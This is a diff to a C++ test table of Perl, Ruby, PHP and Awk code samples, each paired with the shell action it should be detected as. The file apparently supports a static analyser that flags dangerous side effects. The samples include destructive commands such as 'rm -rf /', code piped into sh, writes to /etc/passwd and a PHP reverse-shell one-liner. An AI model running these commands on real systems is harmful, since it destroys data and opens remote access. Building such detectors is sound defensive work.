@@ -55,7 +55,16 @@ constexpr Sample kPerl[] = {
     {"while (<STDIN>) { print }", ""},
     {"unlink for glob('/a/*')", "rm /a/*"},
     {"rmtree($_) for glob('/a/*')", "rm -r -f /a/*"},
-    {"find(sub { unlink $_ }, '/a')", "rm /a/*"},
+    {"find(sub { unlink $_ }, '/a')", "[definition] rm /a/*\nrm /a/*"},
+    {"open(F, '|sh'); print F 'rm -rf /';", "$ sh\n$ printf %s 'rm -rf /' | sh"},
+    {"open(my $h, '|-', 'sh'); print {$h} 'rm', ' /';", "$ sh\n$ printf %s 'rm /' | sh"},
+    {"open(my $h, '|-', 'sort', '-u'); print $h \"a\\n\"; print 'rm';", "$ sort -u\n$ printf %s 'a\\n' | sort -u"},
+    {"print STDERR 'rm -rf /'; print $h 'x';", ""},
+    {"sub f { my ($p, $q) = @_; system(\"rm $q $p\") } f('/', '-r');", "[definition] $ rm <?> <?>\n$ rm -r /"},
+    {"sub f { my $p = shift; unlink($p) } f('/a'); f('/b')", "[definition] rm <?>\nrm /a\nrm /b"},
+    {"sub f { unlink $_[0] } f '/a';", "[definition] rm <?>\nrm /a"},
+    {"my $f = sub { unlink(shift) }; $f->('/a');", "[definition] rm <?>\nrm /a"},
+    {"sub f { unlink(shift(@ARGV)) } f('/a');", "[definition] rm <?>\nrm <?>"},
     {"system { 'rm' } 'rm', 'x'", "$ rm x"},
 };
 
@@ -107,6 +116,16 @@ constexpr Sample kRuby[] = {
     {"Dir.each_child('/a') do |p| File.delete(\"/a/#{p}\") end", "rm /a/*"},
     {"Kernel.send(:system, 'rm x')", "$ rm x"},
     {"Dir.glob('/a').each(&File.method(:delete))", "rm /a"},
+    {"def f(p) = system(\"rm #{p}\")\nf('/')", "[definition] $ rm <?>\n$ rm /"},
+    {"def f(p)\n  if p then system(\"rm #{p}\") end\n  while x do y end\nend\nf '/'\nsystem('ls')", "[definition] $ rm <?>\n$ rm /\n$ ls"},
+    {"def self.f p; File.delete(p); end; f('/a')", "[definition] rm <?>\nrm /a"},
+    {"def f(p = '/a'); File.delete(p); end; f", "rm /a"},
+    {"f = ->(p) { File.delete(p) }; f.call('/a'); f.('/b')", "[definition] rm <?>\nrm /a\nrm /b"},
+    {"def f(p) = puts(\"rm #{p}\"); f('/')", ""},
+    {"def f(p)\n  x(", ""},
+    {"IO.popen('sh', 'w') { |p| p.puts 'rm x' }", "$ sh w\n$ printf %s 'rm x' | sh"},
+    {"p = IO.popen('sh', 'w'); p << 'rm x'; p.write('rm y')", "$ sh w\n$ printf %s 'rm x' | sh\n$ printf %s 'rm y' | sh"},
+    {"Open3.capture2('sh', stdin_data: 'rm x')", "$ sh\n$ printf %s 'rm x' | sh"},
 };
 
 constexpr Sample kPhp[] = {
@@ -135,6 +154,7 @@ constexpr Sample kPhp[] = {
     {"chmod('/etc', 0777);", "chmod 777 /etc"},
     {"$pdo->exec('DROP TABLE users');", "sql drop table users"},
     {"mysqli_query($c, 'DROP TABLE users');", "sql drop table users"},
+    {"$h = popen('sh', 'w'); fwrite($h, 'rm x'); fwrite($f, 'rm y');", "$ sh\n$ printf %s 'rm x' | sh"},
     {"$sock=fsockopen('x',4444);exec('/bin/sh -i <&3 >&3 2>&3');", "$ /bin/sh -i <&3 >&3 2>&3\nnc -e /bin/sh <?>"},
 };
 
@@ -150,8 +170,11 @@ constexpr Sample kAwk[] = {
     {"{ system(\"rm -rf \" $1) }", "$ rm -rf <?>"},
     {"{ system($0) }", "!code"},
     {"BEGIN { \"rm -rf ~\" | getline x }", "$ rm -rf ~"},
-    {"{ print $1 | \"sh\" }", "$ sh"},
-    {"{ print | \"xargs rm -rf\" }", "$ xargs rm -rf"},
+    {"{ print $1 | \"sh\" }", "$ printf %s <?> | sh"},
+    {"BEGIN { print \"rm -rf\", \"/\" | \"sh\" }", "$ printf %s 'rm -rf /' | sh"},
+    {"BEGIN { c = \"sh\"; print(\"rm ~\") | c }", "$ printf %s 'rm ~' | sh"},
+    {"{ printf \"rm %s\", $1 | \"sh\" }", "$ printf %s <?> | sh"},
+    {"{ print | \"xargs rm -rf\" }", "$ printf %s <?> | xargs rm -rf"},
     {"{ print > \"/etc/passwd\" }", "@write /etc/passwd"},
     {"{ print >> \"a\" }", "@write --append a"},
     {"{ printf \"%s\", $1 > \"a\" }", "@write a"},
